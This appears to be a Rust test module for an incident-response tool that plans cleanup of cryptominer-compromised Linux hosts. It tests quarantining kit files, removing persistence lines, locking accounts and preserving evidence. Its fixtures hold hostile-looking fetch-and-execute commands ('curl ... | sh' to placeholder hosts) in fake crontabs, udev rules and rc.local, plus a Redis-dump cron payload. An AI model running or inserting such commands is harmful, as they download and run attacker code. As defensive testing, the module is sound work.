    use crate::parse::authorized_keys;
    use crate::remediate::test_plan::{doc, plan_of};
    use minetrace_schemas::findings::Role;
    use minetrace_schemas::records::executable::{CopyStatus, ExecutableRecord};
    use minetrace_schemas::records::process::FileId;

    /// The paths the plan quarantines, in plan order.
    fn quarantined(plan: &Plan) -> Vec<&[u8]> {
        plan.items
            .iter()
            .filter_map(|i| match &i.action {
                Action::QuarantineFile { file, .. } => Some(file.path.as_bytes()),
                _ => None,
            })
            .collect()
    }

    const RDB_CRONTAB: &[u8] =
        b"REDIS0009\xfa\x09redis-ver\x056.0.16\xfe\x00\n\n*/1 * * * * curl -fsSL http://127.66.3.1/cr.sh | sh\n\n\xff";

    #[test]
    fn an_action_whose_gate_cannot_be_decided_is_a_review_item_never_apply() {
        let mut r = Reviews::default();
        let medium = Basis::one("MT-X medium: t", &Attr::Review("medium only".into()));
        assert_eq!(
            r.gate(&medium, "remove the line".into(), "a".into()),
            Gate::Review(vec![1])
        );
        // A lookup that misses: a numbered review item saying why, not `Apply`.
        let g = r.decided(None, "quarantine the file", || "/tmp/.x/kit".into());
        assert_eq!(g, Gate::Review(vec![2]));
        assert_eq!(r.items[1].target, "/tmp/.x/kit");
        assert_eq!(r.items[1].reason, vec![UNDECIDED.to_owned()]);
        // A decided gate is kept as it is, and adds no item.
        assert_eq!(r.decided(Some(&Gate::Apply), "t", String::new), Gate::Apply);
        assert_eq!(r.items.len(), 2);
    }

    #[test]
    fn redis_dumps_are_quarantined_whole_other_shared_files_lose_lines() {
        let model = fixture::model(
            vec![
                fixture::file(b"/var/spool/cron/crontabs/root", Some(RDB_CRONTAB)),
                fixture::file(b"/etc/ld.so.preload", Some(b"/usr/lib/libjemalloc.so\n")),
                fixture::file(
                    b"/var/spool/cron/crontabs/ops",
                    Some(b"17 3 * * * /usr/local/sbin/backup.sh\n* * * * * curl http://x/y | sh\n"),
                ),
            ],
            vec![],
        );
        let rdb = model
            .file(b"/var/spool/cron/crontabs/root")
            .expect("record")
            .clone();
        let ops = model
            .file(b"/var/spool/cron/crontabs/ops")
            .expect("record")
            .clone();
        let findings = vec![
            finding(&crate::detect::rules::PER_002, Severity::Critical)
                .subject(file_subject(&rdb))
                .subject(persistence_subject(&rdb.path, 4)),
            finding(&crate::detect::rules::PER_001, Severity::High)
                .subject(file_subject(&ops))
                .subject(persistence_subject(&ops.path, 2)),
            finding(&crate::detect::rules::EVA_001, Severity::Medium).subject(file_subject(
                model.file(b"/etc/ld.so.preload").expect("record"),
            )),
        ];
        let plan = plan_of(model, doc(findings));
        let quarantined = quarantined(&plan);
        assert_eq!(quarantined, vec![&b"/var/spool/cron/crontabs/root"[..]]);
        let edited: Vec<(&[u8], Vec<u32>)> = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::RemoveLines { file, lines, .. } => Some((
                    file.path.as_bytes(),
                    lines.iter().map(|l| l.number).collect(),
                )),
                _ => None,
            })
            .collect();
        assert_eq!(
            edited,
            vec![(&b"/var/spool/cron/crontabs/ops"[..], vec![2])]
        );
        // Its lines are removed: no note asks the responder to deal with the whole file; a shared file
        // named whole with no line flagged is left to the responder.
        assert!(
            !plan.manual.iter().any(|m| m.contains("crontabs/ops")),
            "{:?}",
            plan.manual
        );
        assert!(
            plan.manual
                .iter()
                .any(|m| m.contains("/etc/ld.so.preload") && m.contains("shared file")),
            "{:?}",
            plan.manual
        );
    }

    #[test]
    fn a_continued_entry_is_removed_whole_and_edited_in_place_only_after_review() {
        // udev joins `\` lines: the flagged rule's `RUN+=` line left alone would be a rule matching every
        // event; the admin's rule sharing its first line is another entry (review of train 1, item 1).
        // cron joins nothing. A shell line ending in `#\` (a comment) or `\ ` continues nowhere, and a
        // blank line ends an entry (items 2, 10): the host's next line is never taken.
        let rules = b"ACTION==\"add\", SUBSYSTEM==\"net\", \\\n  RUN+=\"/bin/sh -c 'curl -fsSL http://127.66.21.2/u.sh | sh'\"\nACTION==\"add\", SUBSYSTEM==\"net\", \\\n  RUN+=\"/usr/sbin/ethtool -K $name gro off\"\n";
        let tab =
            b"* * * * * root curl -s http://x/a.sh | sh \\\n0 2 * * * root /opt/app/rotate --now\n";
        let rc = b"#!/bin/sh\nnohup \\\n  /opt/app/server &\nnohup \\\n  /tmp/.x/kdevtmpfsi &\ncurl -fsSL http://x/s|sh #\\\n/opt/app/worker &\n/tmp/.y/m \\\n\n/opt/app/cache &\nexit 0\n";
        let model = fixture::model(
            vec![
                fixture::file(b"/etc/udev/rules.d/75-net.rules", Some(rules)),
                fixture::file(b"/etc/cron.d/app", Some(tab)),
                fixture::file(b"/etc/rc.local", Some(rc)),
            ],
            vec![],
        );
        let flag = |p: &[u8], line: u32| {
            finding(&crate::detect::rules::PER_031, Severity::High)
                .subject(persistence_subject(&RawBytes::from(p), line))
        };
        let findings = vec![
            flag(b"/etc/udev/rules.d/75-net.rules", 1),
            flag(b"/etc/cron.d/app", 1),
            flag(b"/etc/rc.local", 4),
            flag(b"/etc/rc.local", 6),
            flag(b"/etc/rc.local", 8),
        ];
        let plan = plan_of(model, doc(findings));
        // (file, [(line, removed without review)]) of every line removal.
        type Edits<'p> = Vec<(&'p [u8], Vec<(u32, bool)>)>;
        let mut edited: Edits = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::RemoveLines { file, lines, .. } => Some((
                    file.path.as_bytes(),
                    lines
                        .iter()
                        .map(|l| (l.number, l.gate == Gate::Apply))
                        .collect(),
                )),
                _ => None,
            })
            .collect();
        edited.sort();
        assert_eq!(
            edited,
            vec![
                (&b"/etc/cron.d/app"[..], vec![(1, true)]),
                (
                    &b"/etc/rc.local"[..],
                    vec![(4, false), (5, false), (6, true), (8, true)]
                ),
                (
                    &b"/etc/udev/rules.d/75-net.rules"[..],
                    vec![(1, false), (2, false)]
                ),
            ],
            "{:?}",
            plan.items
        );
    }

    #[test]
    fn a_file_left_inert_is_removed_whole_only_when_every_line_it_loses_is_attributed() {
        // Nothing else runs in the file once both flagged lines go: the attacker's line (high) and an
        // admin's line only a medium finding names. The medium one is a review item, so the file is not
        // quarantined whole unasked: the high line goes, the medium one waits for the operator.
        let tab = b"# cleanup\n* * * * * root curl -s http://x/a.sh | sh\n0 2 * * * root /opt/app/rotate --now\n";
        let path = RawBytes::from(&b"/etc/cron.d/app"[..]);
        let make = || fixture::model(vec![fixture::file(b"/etc/cron.d/app", Some(tab))], vec![]);
        let high = finding(&crate::detect::rules::PER_001, Severity::High)
            .subject(persistence_subject(&path, 2));
        let medium = finding(&crate::detect::rules::PER_001, Severity::Medium)
            .subject(persistence_subject(&path, 3));
        let plan = plan_of(make(), doc(vec![high.clone(), medium]));
        assert!(quarantined(&plan).is_empty(), "{:?}", plan.items);
        let gates = line_gates(&plan);
        assert_eq!(gates.len(), 2, "{gates:?}");
        assert_eq!(gates[0], (2, Gate::Apply), "{gates:?}");
        assert!(matches!(gates[1], (3, Gate::Review(_))), "{gates:?}");
        // Every line it loses attributed (or none: then the whole file is one review item): it goes whole.
        let high3 = finding(&crate::detect::rules::PER_001, Severity::High)
            .subject(persistence_subject(&path, 3));
        let plan = plan_of(make(), doc(vec![high, high3]));
        assert_eq!(quarantined(&plan), vec![&b"/etc/cron.d/app"[..]]);
    }

    /// Review #10: a kept file's lock is set again after its edit unless it is the intrusion's: MT-EVA-001
    /// high, or an immutable file (medium lock) an attributed line was written into.
    #[test]
    fn an_edited_files_lock_is_restored_unless_the_intrusion_set_it() {
        let tab = b"17 3 * * * /usr/local/sbin/backup.sh\n* * * * * curl -s http://x/a.sh | sh\n";
        let path = RawBytes::from(&b"/var/spool/cron/crontabs/root"[..]);
        let restore = |lock: Severity, immutable: bool, line: Severity| {
            let (mut f, content) = fixture::file(path.as_bytes(), Some(tab));
            f.immutable = immutable;
            f.append_only = !immutable;
            let model = fixture::model(vec![(f, content)], vec![]);
            let rec = model.file(path.as_bytes()).expect("record").clone();
            let findings = vec![
                finding(&crate::detect::rules::PER_001, line)
                    .subject(persistence_subject(&path, 2)),
                finding(&crate::detect::rules::EVA_001, lock)
                    .subject_as(file_subject(&rec), Role::Context),
            ];
            let plan = plan_of(model, doc(findings));
            let flags: Vec<bool> = plan
                .items
                .iter()
                .filter_map(|i| match &i.action {
                    Action::RemoveLines { locks, .. } => Some(locks.restore_file),
                    _ => None,
                })
                .collect();
            flags
        };
        // An admin's append-only crontab keeps its lock; so does an immutable one whose flagged line is
        // only a review item.
        assert_eq!(restore(Severity::Medium, false, Severity::High), vec![true]);
        assert_eq!(
            restore(Severity::Medium, true, Severity::Medium),
            vec![true]
        );
        // The attacker's line is in an immutable file: the lock was set after it was written.
        assert_eq!(restore(Severity::Medium, true, Severity::High), vec![false]);
        assert_eq!(restore(Severity::High, false, Severity::High), vec![false]);
    }

    #[test]
    fn every_copy_of_a_flagged_line_goes_other_lines_stay() {
        let tab = b"17 3 * * * /usr/local/sbin/backup.sh\n* * * * * curl -s http://x/a.sh | sh\n5 4 * * * /bin/true\n* * * * * curl -s http://x/a.sh | sh\n";
        let model = fixture::model(
            vec![fixture::file(b"/var/spool/cron/crontabs/root", Some(tab))],
            vec![],
        );
        let f = finding(&crate::detect::rules::PER_001, Severity::High).subject(
            persistence_subject(&RawBytes::from(&b"/var/spool/cron/crontabs/root"[..]), 2),
        );
        let plan = plan_of(model, doc(vec![f]));
        let numbers: Vec<u32> = line_gates(&plan).into_iter().map(|(n, _)| n).collect();
        assert_eq!(numbers, vec![2, 4], "{:?}", plan.items);
    }

    #[test]
    fn a_kit_directory_goes_whole_only_when_every_entry_is_a_kit_file_removed_unasked() {
        use minetrace_schemas::records::file::FileKind;
        let dir = |p: &[u8], ino: u64| {
            let (mut r, _) = fixture::file(p, None);
            r.kind = FileKind::Directory;
            r.mode = 0o755;
            r.ino = ino;
            (r, None)
        };
        let model = fixture::model(
            vec![
                dir(b"/tmp/.kit", 7001),
                dir(b"/tmp/.kit/lib", 7002),
                fixture::file(b"/tmp/.kit/kdevtmpfsi", Some(b"\x7fELF miner")),
                fixture::file(b"/tmp/.kit/lib/libprocesshider.so", Some(b"\x7fELF lib")),
                // A look-alike: the kit's file sits next to a file nothing flags.
                dir(b"/var/tmp/.cache2", 7003),
                fixture::file(b"/var/tmp/.cache2/kswapd0", Some(b"\x7fELF m2")),
                fixture::file(b"/var/tmp/.cache2/notes.txt", Some(b"admin notes")),
                // A key directory is never removed as a kit directory.
                dir(b"/root/.ssh", 7004),
                fixture::file(b"/root/.ssh/.x", Some(b"\x7fELF m3")),
            ],
            vec![],
        );
        let mut f = finding(&crate::detect::rules::EVA_050, Severity::High);
        for p in [
            &b"/tmp/.kit/kdevtmpfsi"[..],
            b"/tmp/.kit/lib/libprocesshider.so",
            b"/var/tmp/.cache2/kswapd0",
            b"/root/.ssh/.x",
        ] {
            f = f.subject(file_subject(model.file(p).expect("record")));
        }
        let plan = plan_of(model, doc(vec![f]));
        let dirs: Vec<(usize, Vec<&[u8]>)> = plan
            .items
            .iter()
            .enumerate()
            .filter_map(|(i, item)| match &item.action {
                Action::RemoveKitDir { dirs } => {
                    Some((i, dirs.iter().map(|d| d.path.as_bytes()).collect()))
                }
                _ => None,
            })
            .collect();
        assert_eq!(
            dirs.iter().map(|(_, d)| d.clone()).collect::<Vec<_>>(),
            vec![vec![&b"/tmp/.kit/lib"[..], b"/tmp/.kit"]],
            "{:?}",
            plan.items
        );
        // After the files it empties, with --apply's gate.
        let last_quarantine = plan
            .items
            .iter()
            .rposition(|i| matches!(i.action, Action::QuarantineFile { .. }))
            .expect("files are quarantined");
        assert!(dirs.iter().all(|(i, _)| *i > last_quarantine));
        assert!(plan
            .items
            .iter()
            .filter(|i| matches!(i.action, Action::RemoveKitDir { .. }))
            .all(|i| i.gate == Gate::Apply));
        assert!(quarantined(&plan).contains(&&b"/var/tmp/.cache2/kswapd0"[..]));
    }

    #[test]
    fn nothing_is_acted_on_through_a_bind_mount_or_a_system_files_other_name() {
        use minetrace_schemas::records::mount::MountRecord;
        let mut model = fixture::model(
            vec![
                fixture::file(b"/tmp/.x/sshd", Some(b"\x7fELF sshd")),
                fixture::file(b"/tmp/.y/sleep", Some(b"\x7fELF sleep")),
                fixture::file(b"/usr/bin/sleep", Some(b"\x7fELF sleep")),
                fixture::file(b"/tmp/.kit/kdevtmpfsi", Some(b"\x7fELF miner")),
            ],
            vec![],
        );
        let mount = |id: u32, root: &str, at: &str, bind_of: Option<&str>| MountRecord {
            mount_id: id,
            parent_id: 1,
            dev: 2049,
            root: root.into(),
            mount_point: at.into(),
            mount_options: "rw".into(),
            propagation: String::new(),
            fs_type: "ext4".into(),
            source: "/dev/vda1".into(),
            super_options: "rw".into(),
            bind_of: bind_of.map(Into::into),
            walked_by: Vec::new(),
        };
        model.mounts = vec![
            mount(1, "/", "/", None),
            mount(2, "/usr/sbin", "/tmp/.x", Some("/usr/sbin")),
        ];
        // A hard link (or the same inode seen another way) of a system file under a temp name.
        let sleep = model.file(b"/usr/bin/sleep").map(|f| (f.dev, f.ino));
        if let (Some((dev, ino)), Some(i)) = (
            sleep,
            model
                .files
                .iter()
                .position(|f| f.path.as_bytes() == b"/tmp/.y/sleep"),
        ) {
            model.files[i].dev = dev;
            model.files[i].ino = ino;
        }
        let mut f = finding(&crate::detect::rules::EVA_050, Severity::High);
        for p in [
            &b"/tmp/.x/sshd"[..],
            b"/tmp/.y/sleep",
            b"/tmp/.kit/kdevtmpfsi",
        ] {
            f = f.subject(file_subject(model.file(p).expect("record")));
        }
        let plan = plan_of(model, doc(vec![f]));
        assert_eq!(
            quarantined(&plan),
            vec![&b"/tmp/.kit/kdevtmpfsi"[..]],
            "{:?}",
            plan.items
        );
        let manual = plan.manual.join("\n");
        assert!(
            manual.contains("/tmp/.x/sshd") && manual.contains("it is /usr/sbin/sshd"),
            "{manual}"
        );
        assert!(
            manual.contains("/tmp/.y/sleep") && manual.contains("as /usr/bin/sleep"),
            "{manual}"
        );
    }

    /// Whether the respawning set knows the kit's files by content too: a bot running /tmp/.x/kworker
    /// (`bot_len` bytes) beside its miner (10 bytes), planned over `model`, which holds both files.
    fn kit_contents(model: HostModel, bot_len: usize) -> (bool, bool) {
        let bot = Subject::Process {
            pid: 4242,
            start_ticks: 7,
            exe: Some(RawBytes::from(&b"/tmp/.x/kworker"[..])),
        };
        let mut high = finding(&crate::detect::rules::RUN_001, Severity::High).subject(bot);
        for p in [&b"/tmp/.x/kworker"[..], b"/tmp/.x/miner"] {
            high = high.subject(file_subject(model.file(p).expect("record")));
        }
        let plan = plan_of(model, doc(vec![high]));
        let set = plan
            .items
            .iter()
            .find_map(|i| match &i.action {
                Action::KillSet(s) => Some(s.clone()),
                _ => None,
            })
            .expect("a kill-set");
        let sizes: Vec<Option<u64>> = set
            .files
            .iter()
            .map(|f| f.content.as_ref().map(|c| c.0))
            .collect();
        assert_eq!(set.files.len(), 2, "{set:?}");
        (
            sizes.contains(&Some(bot_len as u64)),
            sizes.contains(&Some(10)),
        )
    }

    #[test]
    fn a_kit_copy_of_a_host_program_is_known_by_its_inode_never_its_bytes() {
        // Review s4 #1: the kit runs its bot with a copy of the host's python3. Were the bytes an
        // identity, every python3 on the host (fail2ban, unattended-upgrades, gunicorn) would be killed.
        let python: &[u8] = b"\x7fELF python3.11";
        let kit = || {
            vec![
                fixture::file(b"/tmp/.x/kworker", Some(python)),
                fixture::file(b"/tmp/.x/miner", Some(b"\x7fELF miner")),
            ]
        };
        // Bytes seen nowhere else: the kit's own, both files known by content too.
        assert_eq!(
            kit_contents(fixture::model(kit(), vec![]), python.len()),
            (true, true)
        );
        // The same bytes in a file the plan leaves (the host's /usr/bin/python3.11).
        let mut files = kit();
        files.push(fixture::file(b"/usr/bin/python3.11", Some(python)));
        assert_eq!(
            kit_contents(fixture::model(files, vec![]), python.len()),
            (false, true)
        );
        // The same bytes run by a host process the plan does not kill (no file record of them).
        let mut model = fixture::model(kit(), vec![]);
        model.executables.push(ExecutableRecord {
            file: FileId { dev: 2049, ino: 77 },
            path: RawBytes::from(&b"/opt/app/bin/python"[..]),
            size: python.len() as u64,
            sha256: Some(crate::remediate::edit::sha256(python)),
            deleted: false,
            memfd: false,
            pids: vec![900],
            copy: CopyStatus::NotNeeded,
            copy_reasons: vec![],
            error: None,
        });
        assert_eq!(kit_contents(model, python.len()), (false, true));
    }

    #[test]
    fn an_account_is_locked_unasked_only_when_the_brute_forcer_got_into_it() {
        // Review s4 #5: a password change after a scan (the operator's own `passwd alice`) is no proof
        // the intrusion holds the account; a password login from the brute-forcing address is.
        let fails: String = (0..25)
            .map(|i| {
                format!(
                    "Jan  1 00:{:02}:{:02} h sshd[9]: Failed password for root from 203.0.113.9 port 4{i} ssh2\n",
                    i / 6,
                    i * 9 % 60
                )
            })
            .collect();
        let log = fails
            + "Jan  1 00:05:00 h sshd[9]: Accepted password for git from 203.0.113.9 port 1 ssh2\n\
               Jan  1 00:06:00 h sshd[9]: Accepted password for alice from 198.51.100.4 port 2 ssh2\n";
        let model = fixture::model(
            vec![fixture::file(b"/var/log/auth.log", Some(log.as_bytes()))],
            vec![],
        );
        let account = |name: &str, uid| Subject::Account {
            name: RawBytes::from(name.as_bytes()),
            uid: Some(uid),
        };
        let brute = finding(&crate::detect::rules::ACC_010, Severity::High)
            .subject_as(account("git", 1001), Role::Artifact)
            .subject_as(account("alice", 1000), Role::Artifact);
        let uid0 = finding(&crate::detect::rules::ACC_001, Severity::High)
            .subject_as(account("toor", 0), Role::Artifact);
        let plan = plan_of(model, doc(vec![brute, uid0]));
        let gates: BTreeMap<String, bool> = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::LockAccount { name, .. } => Some((name.escaped(), i.gate == Gate::Apply)),
                _ => None,
            })
            .collect();
        let want: BTreeMap<String, bool> = [("alice", false), ("git", true), ("toor", true)]
            .into_iter()
            .map(|(n, g)| (n.to_owned(), g))
            .collect();
        assert_eq!(
            gates, want,
            "{:?} {:?} {:?}",
            plan.items, plan.reviews, plan.manual
        );
    }

    /// Issue 11: the groups whose last member the script never locks are the `admin_group` indicators,
    /// an `--iocs` file's included, written into the plan (the template keeps no list of its own), and
    /// every `lock` record carries them.
    #[test]
    fn the_plan_carries_the_administrators_groups_of_the_indicators() {
        let mut iocs = Indicators::builtin();
        iocs.add_text("mine.iocs", "admin_group wheel2\n").unwrap();
        let toor = Subject::Account {
            name: RawBytes::from(&b"toor"[..]),
            uid: Some(0),
        };
        let uid0 = finding(&crate::detect::rules::ACC_001, Severity::High)
            .subject_as(toor, Role::Artifact);
        let plan = super::super::build_plan(&crate::analysis::Analysis {
            model: fixture::model(vec![], vec![]),
            document: doc(vec![uid0]),
            integrity_problems: Vec::new(),
            iocs: iocs.clone(),
        });
        let want: Vec<Vec<u8>> = iocs
            .set(Kind::AdminGroup)
            .map(|g| g.as_bytes().to_vec())
            .collect();
        assert!(want.iter().any(|g| g == b"wheel2") && want.iter().any(|g| g == b"sudo"));
        assert_eq!(plan.admin_groups, want);
        let data = super::super::script::data_block(&plan);
        let hex = |b: &[u8]| b.iter().map(|x| format!("{x:02x}")).collect::<String>();
        let lock: Vec<&str> = data
            .lines()
            .find(|l| l.split(' ').nth(1) == Some(hex(b"lock").as_str()))
            .map(|l| l.split(' ').collect())
            .unwrap_or_default();
        // 6 name, 7 uid, 8 the count, then the groups, then the gate.
        assert_eq!(lock.get(6).copied(), Some(hex(b"toor").as_str()));
        assert_eq!(
            lock.get(8).copied(),
            Some(hex(want.len().to_string().as_bytes()).as_str())
        );
        let groups: Vec<String> = want.iter().map(|g| hex(g)).collect();
        assert_eq!(
            lock.get(9..9 + want.len()),
            Some(&groups.iter().map(String::as_str).collect::<Vec<_>>()[..])
        );
        assert_eq!(lock.len(), 9 + want.len() + 1, "{lock:?}");
    }

    #[test]
    fn the_respawning_set_is_planned_with_each_members_gate_and_identity() {
        let mut model = fixture::model(
            vec![
                fixture::file(b"/tmp/.kit/kswapd0", Some(b"\x7fELF miner")),
                fixture::file(b"/tmp/.kit/w1.sh", Some(b"#!/bin/sh\n./kswapd0\n")),
            ],
            vec![],
        );
        // w1.sh's bytes are also a packaged file's: only its inode may identify a member.
        let sha = model
            .file(b"/tmp/.kit/w1.sh")
            .and_then(|f| f.sha256.clone());
        let mut shipped = fixture::not_owned(b"/usr/share/doc/x/example.sh", "test");
        shipped.verdict = PackageVerdict::Match;
        shipped.actual_sha256 = sha;
        model.packages.push(shipped);
        let miner = Subject::Process {
            pid: 4242,
            start_ticks: 7,
            exe: Some(RawBytes::from(&b"/tmp/.kit/kswapd0"[..])),
        };
        let doubtful = Subject::Process {
            pid: 4343,
            start_ticks: 8,
            exe: None,
        };
        let mut high = finding(&crate::detect::rules::RUN_001, Severity::High).subject(miner);
        for p in [&b"/tmp/.kit/kswapd0"[..], b"/tmp/.kit/w1.sh"] {
            high = high.subject(file_subject(model.file(p).expect("record")));
        }
        let medium = finding(&crate::detect::rules::RUN_001, Severity::Medium).subject(doubtful);
        let plan = plan_of(model, doc(vec![high, medium]));
        let sets: Vec<(&RespawnSet, &Gate, &str)> = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::FreezeSet(s) => Some((s, &i.gate, "freeze")),
                Action::KillSet(s) => Some((s, &i.gate, "kill")),
                _ => None,
            })
            .collect();
        assert_eq!(sets.len(), 2, "{:?}", plan.items);
        let (set, gate, _) = sets[0];
        assert_eq!(sets[1].0, set);
        // Open because one member is attributed; each member keeps its own gate for the run-time scan.
        assert_eq!(gate, &Gate::Apply);
        let gates: Vec<(i32, bool)> = set
            .procs
            .iter()
            .map(|p| (p.pid, p.gate == Gate::Apply))
            .collect();
        assert_eq!(gates, vec![(4242, true), (4343, false)]);
        assert_eq!(set.files.len(), 2, "{set:?}");
        let miner_file = set
            .files
            .iter()
            .find(|f| f.content.is_some())
            .expect("miner");
        assert_eq!(miner_file.content.as_ref().map(|c| c.0), Some(10));
        assert_eq!(
            set.files.iter().filter(|f| f.content.is_none()).count(),
            1,
            "a script whose bytes a package ships is known by its inode only: {set:?}"
        );
        // The freeze comes after every single freeze, the kill after every single kill.
        let stages: Vec<&str> = plan
            .items
            .iter()
            .map(|i| match &i.action {
                Action::Freeze(_) => "freeze",
                Action::FreezeSet(_) => "freeze-set",
                Action::Kill(_) => "kill",
                Action::KillSet(_) => "kill-set",
                _ => "",
            })
            .filter(|s| !s.is_empty())
            .collect();
        assert_eq!(
            stages,
            vec!["freeze", "freeze", "freeze-set", "kill", "kill", "kill-set"]
        );
    }

    #[test]
    fn no_respawning_set_without_a_process() {
        let model = fixture::model(
            vec![fixture::file(b"/tmp/.kit/kswapd0", Some(b"\x7fELF miner"))],
            vec![],
        );
        let f = finding(&crate::detect::rules::RUN_001, Severity::High).subject(file_subject(
            model.file(b"/tmp/.kit/kswapd0").expect("record"),
        ));
        let plan = plan_of(model, doc(vec![f]));
        assert!(!plan
            .items
            .iter()
            .any(|i| matches!(i.action, Action::FreezeSet(_) | Action::KillSet(_))));
    }

    #[test]
    fn a_tool_copied_under_another_name_is_removed_never_reinstalled() {
        let mut model = fixture::model(
            vec![
                fixture::file(b"/usr/bin/tntrecht", Some(b"\x7fELF chattr")),
                fixture::file(b"/usr/bin/chattr", Some(b"\x7fELF chattr")),
                fixture::file(b"/usr/sbin/helper", Some(b"\x7fELF helper")),
            ],
            vec![],
        );
        // The collector lists what no package owns in a system binary directory as `system-bin`.
        for f in &mut model.files {
            if f.path.as_bytes() == b"/usr/bin/tntrecht" {
                f.category = "system-bin".into();
            }
        }
        let mut f = finding(&crate::detect::rules::EVA_022, Severity::High);
        for p in [&b"/usr/bin/tntrecht"[..], b"/usr/sbin/helper"] {
            f = f.subject(file_subject(model.file(p).expect("record")));
        }
        let plan = plan_of(model, doc(vec![f]));
        assert_eq!(
            quarantined(&plan),
            vec![&b"/usr/bin/tntrecht"[..]],
            "{:?}",
            plan.items
        );
        // A system file with no package record at all is still planned as its package's repair.
        assert!(plan.items.iter().any(|i| matches!(
            &i.action,
            Action::Reinstall { file, .. } if file.path.as_bytes() == b"/usr/sbin/helper"
        )));
        assert!(!plan.items.iter().any(|i| matches!(
            &i.action,
            Action::Reinstall { file, .. } if file.path.as_bytes() == b"/usr/bin/tntrecht"
        )));
    }

    /// Review of train 2, item 1: a package's configuration file checked as `persistence-config`
    /// (`/etc/crontab`, `/etc/init.d/ssh`) that an admin edited differs from its package's digest; that
    /// is no "system binary replaced" (MT-EVA-020) and no reason to reinstall openssh-server, while a
    /// binary checked as `system-binary` that differs still is both.
    #[test]
    fn an_edited_package_conffile_is_no_replaced_binary_and_no_reinstall() {
        use minetrace_schemas::records::package::PackageManager;
        let mut model = fixture::model(
            vec![
                fixture::file(
                    b"/etc/crontab",
                    Some(b"17 * * * * root run-parts /etc/cron.hourly\n# admin\n"),
                ),
                fixture::file(
                    b"/etc/init.d/ssh",
                    Some(b"#!/bin/sh\n# edited by the admin\n"),
                ),
                fixture::file(
                    b"/usr/bin/top",
                    Some(b"#!/bin/sh\n/usr/bin/top.orig | grep -v kswapd0\n"),
                ),
            ],
            vec![],
        );
        let differs = |path: &[u8], reason: &str, package: &str| {
            let mut c = fixture::not_owned(path, reason);
            c.verdict = PackageVerdict::Mismatch;
            c.manager = Some(PackageManager::Dpkg);
            c.package = Some(package.into());
            c
        };
        model
            .packages
            .push(differs(b"/etc/crontab", "persistence-config", "cron"));
        model.packages.push(differs(
            b"/etc/init.d/ssh",
            "persistence-config",
            "openssh-server",
        ));
        model
            .packages
            .push(differs(b"/usr/bin/top", "system-binary", "procps"));
        let allow = crate::allowlist::Allowlist::parse("test", "").expect("empty allowlist");
        let findings = crate::detect::analyze(&model, &Indicators::builtin(), &allow);
        let replaced: Vec<Vec<u8>> = findings
            .iter()
            .filter(|f| f.rule == crate::detect::rules::EVA_020.id)
            .flat_map(|f| f.subjects.iter())
            .filter_map(|s| match &s.subject {
                Subject::File { path, .. } => Some(path.0.clone()),
                _ => None,
            })
            .collect();
        assert_eq!(replaced, vec![b"/usr/bin/top".to_vec()], "{findings:?}");
        // Another high finding naming the edited init script as its artifact still reinstalls nothing.
        let mut high = finding(&crate::detect::rules::EVA_022, Severity::High);
        for p in [&b"/etc/init.d/ssh"[..], b"/usr/bin/top"] {
            high = high.subject(file_subject(model.file(p).expect("record")));
        }
        let plan = plan_of(model, doc(vec![high]));
        let reinstalled: Vec<&[u8]> = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::Reinstall { file, .. } => Some(file.path.as_bytes()),
                _ => None,
            })
            .collect();
        assert_eq!(reinstalled, vec![&b"/usr/bin/top"[..]], "{:?}", plan.items);
        assert!(
            plan.manual
                .iter()
                .any(|m| m.contains("/etc/init.d/ssh") && m.contains("openssh-server")),
            "{:?}",
            plan.manual
        );
    }

    #[test]
    fn attacker_symlinks_are_removed_system_links_and_evidence_links_never() {
        let model = fixture::model(
            vec![
                fixture::symlink(b"/tmp/.x/cron", b"/var/tmp/.k/run"),
                fixture::symlink(b"/root/.bash_history", b"/dev/null"),
                fixture::symlink(b"/bin", b"usr/bin"),
                fixture::symlink(b"/usr/lib/x/y", b"/dev/null"),
                fixture::symlink(b"/home/a/.ssh/authorized_keys", b"/dev/null"),
            ],
            vec![],
        );
        let subjects = [
            &b"/tmp/.x/cron"[..],
            b"/root/.bash_history",
            b"/bin",
            b"/usr/lib/x/y",
            b"/home/a/.ssh/authorized_keys",
        ];
        let mut f = finding(&crate::detect::rules::EVA_010, Severity::High);
        for p in subjects {
            f = f.subject(file_subject(model.file(p).expect("record")));
        }
        let plan = plan_of(model, doc(vec![f]));
        let links: Vec<&LinkTarget> = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::RemoveLink(l) => Some(l),
                _ => None,
            })
            .collect();
        let links: Vec<(&[u8], &[u8])> = links
            .iter()
            .map(|l| (l.path.as_bytes(), l.target.as_bytes()))
            .collect();
        assert_eq!(
            links,
            vec![
                (&b"/root/.bash_history"[..], &b"/dev/null"[..]),
                (b"/tmp/.x/cron", b"/var/tmp/.k/run")
            ],
            "{:?}",
            plan.items
        );
        assert_eq!(plan.manual.len(), 3, "{:?}", plan.manual);
    }

    #[test]
    fn evidence_is_preserved_never_removed_and_context_is_left_alone() {
        let auth = b"Apr  2 01:17:04 h sshd[1]: Accepted password for git from 127.66.1.9\n";
        let model = fixture::model(
            vec![
                fixture::file(b"/var/log/auth.log", Some(auth)),
                fixture::file(b"/root/.bash_history", Some(b"curl x|sh\n")),
                fixture::file(b"/tmp/.x/miner", Some(b"\x7fELF miner")),
                fixture::file(b"/root/.acme.sh/acme.sh", Some(b"#!/bin/sh\n")),
            ],
            vec![],
        );
        let file = |p: &[u8]| file_subject(model.file(p).expect("record"));
        let findings = vec![
            // A detector that (wrongly) declares a log an artifact: the planner still only copies it.
            finding(&crate::detect::rules::ACC_010, Severity::High)
                .subject(file(b"/var/log/auth.log"))
                .subject_as(file(b"/root/.bash_history"), Role::Evidence),
            finding(&crate::detect::rules::EVA_050, Severity::High)
                .subject(file(b"/tmp/.x/miner"))
                .subject_as(file(b"/root/.acme.sh/acme.sh"), Role::Context),
        ];
        let plan = plan_of(model, doc(findings));
        assert_eq!(quarantined(&plan), vec![&b"/tmp/.x/miner"[..]]);
        let preserved: Vec<&[u8]> = plan
            .items
            .iter()
            .filter_map(|i| match &i.action {
                Action::PreserveFile(f) => Some(f.path.as_bytes()),
                _ => None,
            })
            .collect();
        assert_eq!(
            preserved,
            vec![
                &b"/root/.bash_history"[..],
                b"/tmp/.x/miner",
                b"/var/log/auth.log"
            ]
        );
        assert!(
            plan.manual
                .iter()
                .any(|m| m.contains("/var/log/auth.log") && m.contains("evidence")),
            "{:?}",
            plan.manual
        );
